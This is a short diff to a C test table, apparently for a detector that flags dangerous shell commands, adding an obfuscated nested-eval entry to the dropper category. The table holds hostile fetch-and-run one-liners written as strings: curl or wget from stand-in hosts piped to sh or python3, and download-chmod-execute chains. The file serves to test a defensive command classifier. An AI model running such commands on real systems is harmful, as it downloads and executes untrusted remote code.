@@ -111,6 +111,8 @@ static const struct bad bad[] = {
 	    ">/dev/null 2>&1 &" },
 	{ CMDRULE_DROPPER, "timeout 30 env -i wget -qO- "
 	    "https://abc.ngrok-free.app/p | python3" },
+	{ CMDRULE_DROPPER, "$(eval \"$(eval \"$(eval \"$(curl "
+	    "http://203.0.113.9/x|sh)\")\")\")" },
 	{ CMDRULE_DOWNLOAD_EXEC, "curl -o /tmp/x http://example.net/x && "
 	    "chmod +x /tmp/x && /tmp/x" },
 	{ CMDRULE_DOWNLOAD_EXEC, "bash -c \"$(curl -fsSL "
